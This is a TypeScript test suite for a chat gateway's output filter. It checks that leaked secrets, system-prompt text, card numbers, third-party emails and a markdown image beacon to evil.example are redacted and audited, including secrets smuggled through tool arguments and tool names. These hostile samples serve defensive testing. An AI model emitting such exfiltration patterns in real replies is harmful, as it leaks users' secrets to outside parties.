import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, describe, test } from 'node:test';
import { testDatabases } from './support/databases.ts';
import { FAKE } from './support/fake-secrets.ts';
import { adminGet, chat, chatJson, newConversationId, testGateway } from './support/gateway.ts';

const CANARY = 'CANARY-env-7f3a9c2e1b';
const SYSTEM_PROMPT = readFileSync('prompts/system.md', 'utf8');
const promptSpan = SYSTEM_PROMPT.split('\n').find((l) => l.split(' ').length > 14)!;

const LEAKS: Array<{ name: string; text: string; secret: string | RegExp; kind: string }> = [
  { name: 'a configured secret value', text: `Sure, the key is ${CANARY}.`, secret: CANARY, kind: 'secret_value' },
  { name: 'an API key format', text: `Use ${FAKE.openaiProjectKey} to call it.`, secret: FAKE.openaiProjectKey.slice(0, 20), kind: 'secret_format' },
  { name: 'the system prompt verbatim', text: `My instructions say: ${promptSpan}`, secret: promptSpan, kind: 'system_prompt' },
  { name: 'a card number', text: 'Your card 4242 4242 4242 4242 was charged.', secret: '4242 4242 4242 4242', kind: 'card_number' },
  { name: 'a markdown image to an unknown host', text: 'Look: ![x](https://evil.example/pixel.png?d=secret)', secret: 'evil.example', kind: 'image' },
  { name: "another person's email", text: 'The CEO is ceo@victim.example, write to them.', secret: 'ceo@victim.example', kind: 'email' },
];

function streamedText(body: string): string {
  return body
    .split('\n\n')
    .filter((l) => l.startsWith('data: {'))
    .map((l) => JSON.parse(l.slice(6)))
    .filter((c) => c.type === 'text-delta')
    .map((c) => c.delta)
    .join('');
}

for (const backend of testDatabases()) {
  describe(`output gate on ${backend.name}`, async () => {
    const { db, drop } = await backend.open();
    const { app } = await testGateway(db, { REDACT_VALUES: CANARY, ALLOWED_LINK_HOSTS: 'docs.toolgate.dev' });
    after(drop);

    for (const leak of LEAKS) {
      test(`a reply carrying ${leak.name} is redacted in JSON and in the stream, and audited`, async () => {
        const id = newConversationId();
        const json = await chatJson(app, { id, text: 'tell me', puppet: { text: leak.text } });
        assert.ok(!json.text.includes(leak.secret as string), json.text);
        const streamed = streamedText(await (await chat(app, { id: newConversationId(), text: 'tell me', json: false, puppet: { text: leak.text } })).text());
        assert.ok(!streamed.includes(leak.secret as string), streamed);
        const audit = (await adminGet(app, `/admin/v1/audit?conversationId=${id}&decision=redacted`)).items;
        assert.ok(audit.some((a) => a.reason === leak.kind), `audit reasons: ${audit.map((a) => a.reason)}`);
        assert.ok(!JSON.stringify(audit).includes(leak.secret as string));
      });
    }

    test('a secret smuggled through tool arguments or a tool name is redacted before the client sees it', async () => {
      const calls = [
        { tool: 'capture_lead', args: { name: 'Ann Lee', email: 'ann@example.com', notes: `key ${CANARY}` }, confidence: 1 },
        { tool: `leak_${CANARY}`, args: { v: CANARY }, confidence: 1 },
      ];
      const json = await chatJson(app, { id: newConversationId(), text: "I'm Ann Lee, ann@example.com", puppet: { calls } });
      assert.equal(json.toolCalls.length, 2);
      assert.ok(!JSON.stringify(json).includes(CANARY));
      const streamed = await (await chat(app, { id: newConversationId(), text: "I'm Ann Lee, ann@example.com", json: false, puppet: { calls } })).text();
      assert.ok(!streamed.includes(CANARY));
    });

    test("the user's own email and allowed links pass untouched", async () => {
      const text = 'We will write to me@mine.example. Docs: https://docs.toolgate.dev/start';
      const json = await chatJson(app, { id: newConversationId(), text: 'I am me@mine.example', puppet: { text } });
      assert.equal(json.text, text);
    });

    test('replies are capped at 4,000 characters', async () => {
      const json = await chatJson(app, { id: newConversationId(), text: 'talk a lot', puppet: { text: 'word '.repeat(2000) } });
      assert.ok(json.text.length <= 4001, String(json.text.length));
    });

    test('the stored history keeps the redacted reply, not the secret', async () => {
      const id = newConversationId();
      await chatJson(app, { id, text: 'tell me', puppet: { text: `The token is ${CANARY}` } });
      const rows = await db.query<{ content: unknown }>('select content from messages where conversation_id = $1', [id]);
      assert.ok(!JSON.stringify(rows).includes(CANARY));
    });
  });
}
